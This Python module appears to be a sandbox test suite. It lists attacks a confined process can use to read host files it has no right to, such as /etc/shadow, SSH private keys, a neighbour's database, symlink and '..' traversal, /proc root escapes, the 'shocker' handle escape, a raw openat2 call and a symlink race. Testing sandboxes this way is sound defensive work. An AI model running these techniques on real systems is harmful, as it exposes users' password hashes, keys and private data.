# ruff: noqa: PTH105, PTH108, PTH211, PTH115, PTH116, PTH118, PTH120, PTH123, PTH208 - an attack takes the shortest way
"""Attacks that read files which the cell has no right to.

Allows: what one file of the host holds is enough to become the host.
"""

import os

from .means import Blocked, Facts, attack, facility, head, libc, numbers, scratch, system_call


@attack()
def reads_the_password_hashes(_: Facts) -> str:
    """Open the file of password hashes.

    Allows: guessing the passwords of the machine's users elsewhere.
    """
    return head("/etc/shadow")


@attack()
def reads_a_secret_of_the_host(facts: Facts) -> str:
    """Open a file that only the host's user may read.

    Allows: reading keys, tokens and data of the host's user.
    """
    return head(facts["secret"])


@attack()
def reads_a_private_key(facts: Facts) -> str:
    """Open the key in the home of the host's user.

    Allows: logging in wherever that user may.
    """
    return head(f"{facts['home']}/.ssh/id_ed25519")


@attack()
def reads_the_list_of_users(_: Facts) -> str:
    """Open the list of the machine's users.

    Allows: knowing whom to attack next.
    """
    return head("/etc/passwd")


@attack()
def lists_a_home(facts: Facts) -> list[str]:
    """List the home of the host's user.

    Allows: finding what is worth stealing.
    """
    return sorted(os.listdir(facts["home"]))


@attack()
def lists_the_root(_: Facts) -> list[str]:
    """List the root of the machine's files, and find a home in it.

    Allows: learning how the machine is built.
    """
    found = os.listdir("/")
    if "home" not in found and "root" not in found:
        raise Blocked(f"the root holds {found}")
    return found


@attack()
def reads_the_source_of_another_cell(facts: Facts) -> str:
    """Open the source of the neighbour.

    Allows: finding the weaknesses of another cell.
    """
    return head(f"{facts['implementation']}/__init__.py")


@attack()
def reads_the_store(facts: Facts) -> str:
    """Open the database of the system.

    Allows: reading every cell's data.
    """
    return head(facts["store"])


@attack()
def reads_the_store_through_sqlite(facts: Facts) -> str:
    """Open the database of the system with a driver of its own.

    Allows: reading every cell's data.
    """
    connection = facility("sqlite3").connect(f"file:{facts['store']}?mode=ro", uri=True)
    try:
        return str(connection.execute("select word from neighbour__secret").fetchone()[0])
    finally:
        connection.close()


@attack()
def reads_with_the_c_library(facts: Facts) -> str:
    """Open a secret with a C function, past everything that watches Python.

    Allows: reading keys, tokens and data, unseen by audit hooks.
    """
    file, ctypes = libc().open(facts["secret"].encode(), os.O_RDONLY), facility("ctypes")
    if file < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(file, 60).decode()


@attack()
def reads_by_a_raw_openat2(facts: Facts) -> str:
    """Open a secret with the newest of the system calls that open.

    Allows: passing a filter that knows only the older ones.
    """
    path = facility("ctypes").c_char_p(facts["secret"].encode())
    return os.read(system_call(facts, "openat2", -100, path, numbers("QQQ", os.O_RDONLY, 0, 0), 24), 60).decode()


@attack()
def reads_through_a_symbolic_link(facts: Facts) -> str:
    """Point a link in the scratch folder at a secret, and open the link.

    Allows: reading what a check of the path alone would forbid.
    """
    link = os.path.join(scratch(), "link")
    os.symlink(facts["secret"], link)
    return head(link)


@attack()
def reads_through_a_hard_link(facts: Facts) -> str:
    """Give a secret a second name in the scratch folder.

    Allows: reading what a check of the path alone would forbid.
    """
    link = os.path.join(scratch(), "second")
    os.link(facts["secret"], link)
    try:
        return head(link)
    finally:
        os.unlink(link)


@attack()
def climbs_out_by_two_dots(facts: Facts) -> str:
    """Begin in the folder that may be read, and climb out of it.

    Allows: reading everything beside what was granted.
    """
    return head(f"{facts['public']}/../secrets/secret")


@attack()
def reads_beside_its_right(facts: Facts) -> str:
    """Open a folder whose name begins like the one that may be read.

    Allows: reading what a check by prefix confuses.
    """
    return head(f"{facts['public']}-not/page.html")


@attack()
def follows_a_link_out_of_its_right(facts: Facts) -> str:
    """Open a link inside the folder that may be read, which leads out of it.

    Allows: reading whatever somebody once linked there.
    """
    return head(f"{facts['public']}/way-out")


@attack()
def reads_through_its_own_root(facts: Facts) -> str:
    """Reach a secret by the root that the kernel shows of this process.

    Allows: leaving a root that was only changed.
    """
    return head(f"/proc/self/root{facts['secret']}")


@attack()
def reads_through_the_root_of_the_host(facts: Facts) -> str:
    """Reach a secret by the root that the kernel shows of the host's process.

    Allows: reading what was taken out of this process's sight.
    """
    return head(f"/proc/{facts['host']}/root{facts['secret']}")


@attack(bare="the first process may be guarded")
def reads_through_the_root_of_the_first_process(facts: Facts) -> str:
    """Reach a secret by the root of the first process of the machine.

    Allows: reading what was taken out of this process's sight.
    """
    return head(f"/proc/1/root{facts['secret']}")


@attack()
def opens_a_file_by_its_number(facts: Facts) -> str:
    """Ask for a handle of a secret, and open it by that number, without its path.

    Allows: leaving every folder that a sandbox set up (the escape called shocker).
    """
    ctypes = facility("ctypes")
    handle, mount = numbers("Ii", 128, 0, size=136), ctypes.c_int()
    system_call(facts, "name_to_handle_at", -100, ctypes.c_char_p(facts["secret"].encode()), handle, ctypes.byref(mount), 0)
    folder = os.open(facts["public"], os.O_RDONLY)
    return os.read(system_call(facts, "open_by_handle_at", folder, handle, os.O_RDONLY), 60).decode()


@attack()
def climbs_out_by_a_folder_descriptor(facts: Facts) -> str:
    """Open the folder that may be read, and a path with dots relative to it.

    Allows: reading everything beside what was granted.
    """
    folder = os.open(facts["public"], os.O_RDONLY)
    return os.read(os.open("../secrets/secret", os.O_RDONLY, dir_fd=folder), 60).decode()


@attack()
def changes_folder_and_reads(facts: Facts) -> str:
    """Go into the folder of a secret, and open it by its bare name.

    Allows: reading what is checked by its whole path alone.
    """
    os.chdir(os.path.dirname(facts["secret"]))
    return head("secret")


@attack(deadline_s=6)
def races_a_path(facts: Facts) -> str:
    """Change a path between a harmless file and a link to a secret while it is opened, many times.

    Allows: passing every check that looks at a path before it is opened.
    """
    path, harmless, link = (os.path.join(scratch(), name) for name in ("race", "harmless", "trap"))
    with open(harmless, "w") as file:
        file.write("harmless")
    for _ in range(300):
        for target in (harmless, facts["secret"]):
            os.symlink(target, link)
            os.replace(link, path)
            try:
                seen = head(path)
            except PermissionError:
                continue
            if seen != "harmless":
                return seen
    raise Blocked("only the harmless file was read")


@attack()
def learns_the_size_of_a_secret(facts: Facts) -> str:
    """Ask for the size and age of a file that it may not open.

    Allows: learning which files there are, how long and how old; not what is in them.
    """
    found = os.stat(facts["secret"])
    return f"{found.st_size} bytes, of {found.st_mtime:.0f}"


@attack()
def learns_that_a_file_is_there(facts: Facts) -> str:
    """Ask whether a file that it may not open may be opened.

    Allows: learning which files there are.
    """
    if not os.access(facts["secret"], os.F_OK):
        raise Blocked("it is said not to be there")
    return "it is there"


@attack()
def learns_where_a_link_leads(facts: Facts) -> str:
    """Read a symbolic link outside of what it may read.

    Allows: learning which files there are.
    """
    return os.readlink(facts["link"])


@attack()
def watches_a_folder(facts: Facts) -> str:
    """Ask the kernel to tell of every change in the folder of the secrets.

    Allows: learning when the host works, and on which files.
    """
    watching = system_call(facts, "inotify_init1", 0)
    path = facility("ctypes").c_char_p(os.path.dirname(facts["secret"]).encode())
    return f"watch {system_call(facts, 'inotify_add_watch', watching, path, 0xFFF)}"


@attack()
def reads_an_attribute_of_a_secret(facts: Facts) -> str:
    """List the extended attributes of a file that it may not open.

    Allows: learning what is kept beside the files.
    """
    return f"attributes: {os.listxattr(facts['secret'])}"
